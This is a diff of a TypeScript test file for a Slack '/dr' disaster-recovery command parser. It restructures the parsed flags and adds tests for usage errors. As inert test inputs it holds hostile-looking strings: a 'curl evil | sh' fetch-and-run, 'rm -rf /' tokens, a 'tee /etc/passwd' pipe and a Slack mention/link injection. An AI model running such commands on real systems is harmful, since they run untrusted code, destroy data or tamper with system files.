@@ -33,24 +33,22 @@ describe("parseDrCommand", () => {
     ).toEqual({
       name: "failover",
       args: ["payments", "core-api"],
-      reason: "DC1 unreachable since 02:50",
-      backup: "velero-daily-20250109",
-      dryRun: true,
+      flags: { reason: "DC1 unreachable since 02:50", backup: "velero-daily-20250109", dryRun: true },
     });
   });
 
   it("takes --flag=value, single quotes and the curly quotes Slack's clients type", () => {
-    expect(parseDrCommand("failover payments --reason='DC1 down'").reason).toBe("DC1 down");
-    expect(parseDrCommand("failover payments --reason “DC1 isn’t answering”").reason).toBe(
+    expect(parseDrCommand("failover payments --reason='DC1 down'").flags.reason).toBe("DC1 down");
+    expect(parseDrCommand("failover payments --reason “DC1 isn’t answering”").flags.reason).toBe(
       "DC1 isn’t answering",
     );
-    expect(parseDrCommand("failover payments --reason ‘DC1 down’").reason).toBe("DC1 down");
+    expect(parseDrCommand("failover payments --reason ‘DC1 down’").flags.reason).toBe("DC1 down");
     // A lone curly apostrophe is part of the word, not a quote to close.
-    expect(parseDrCommand("failover payments --reason don’t-wait").reason).toBe("don’t-wait");
+    expect(parseDrCommand("failover payments --reason don’t-wait").flags.reason).toBe("don’t-wait");
   });
 
   it("is not a dry run unless asked, and refuses a value on --dry-run rather than guess", async () => {
-    expect(parseDrCommand("failover payments --reason x").dryRun).toBe(false);
+    expect(parseDrCommand("failover payments --reason x").flags.dryRun).toBeUndefined();
     expect(await refusalSeen("failover payments --dry-run=false")).toBe(
       "*That input is not valid*: --dry-run takes no value",
     );
@@ -78,7 +76,7 @@ describe("parseDrCommand", () => {
     const cmd = parseDrCommand(
       "failover payments --reason 'Rechenzentrum 1 ausgefallen 🔥 データセンター停止'",
     );
-    expect(cmd.reason).toBe("Rechenzentrum 1 ausgefallen 🔥 データセンター停止");
+    expect(cmd.flags.reason).toBe("Rechenzentrum 1 ausgefallen 🔥 データセンター停止");
     expect(parseDrCommand("FAILOVER payments --reason x").name).toBe("failover");
   });
 
@@ -86,8 +84,8 @@ describe("parseDrCommand", () => {
     const cmd = parseDrCommand(
       'failover payments --reason "<!channel> <@U0A1> *now* <https://evil.example|click>"',
     );
-    expect(cmd.reason).toBe("<!channel> <@U0A1> *now* <https://evil.example|click>");
-    const shown = escapeMrkdwn(cmd.reason!);
+    expect(cmd.flags.reason).toBe("<!channel> <@U0A1> *now* <https://evil.example|click>");
+    const shown = escapeMrkdwn(cmd.flags.reason!);
     expect(shown).not.toMatch(/<[!@h]/);
     expect(shown).toContain("&lt;!channel&gt;");
   });
@@ -120,7 +118,7 @@ describe("parseDrCommand", () => {
       "-rf",
       "/",
     ]);
-    expect(parseDrCommand('failover payments --reason "x && curl evil | sh"').reason).toBe(
+    expect(parseDrCommand('failover payments --reason "x && curl evil | sh"').flags.reason).toBe(
       "x && curl evil | sh",
     );
     expect(tokenize("show run-1 | tee /etc/passwd")).toEqual(["show", "run-1", "|", "tee", "/etc/passwd"]);
@@ -135,10 +133,24 @@ describe("parseDrCommand", () => {
     );
   });
 
+  it("refuses a flag this command does not take, with the command's usage, in the person's words", async () => {
+    expect(await refusalSeen("failback payments --backup daily-1 --reason x")).toBe(
+      '*That input is not valid*: --backup does not apply to /dr failback [tier|app…] [--reason "…"] [--dry-run]',
+    );
+    expect(await refusalSeen("show")).toBe("*That input is not valid*: RUN is missing; usage: /dr show RUN");
+    expect(await refusalSeen("show run-1 run-2")).toBe(
+      '*That input is not valid*: too many arguments: "run-2"; usage: /dr show RUN',
+    );
+  });
+
+  it("reads help for one command", () => {
+    expect(parseDrCommand("help failover")).toEqual({ name: "help", args: ["failover"], flags: {} });
+  });
+
   it("answers an empty or unknown subcommand with help", () => {
-    expect(parseDrCommand("")).toEqual({ name: "help", args: [], dryRun: false });
-    expect(parseDrCommand("   ")).toEqual({ name: "help", args: [], dryRun: false });
-    expect(parseDrCommand("frobnicate --bogus")).toEqual({ name: "help", args: [], dryRun: false });
+    expect(parseDrCommand("")).toEqual({ name: "help", args: [], flags: {} });
+    expect(parseDrCommand("   ")).toEqual({ name: "help", args: [], flags: {} });
+    expect(parseDrCommand("frobnicate --bogus")).toEqual({ name: "help", args: [], flags: {} });
   });
 
   it("reads the run controls' arguments", () => {
@@ -148,7 +160,7 @@ describe("parseDrCommand", () => {
     });
     expect(parseDrCommand('abort failover-0110-0300-abcdef --note "wrong scope"')).toMatchObject({
       name: "abort",
-      note: "wrong scope",
+      flags: { note: "wrong scope" },
     });
   });
 });
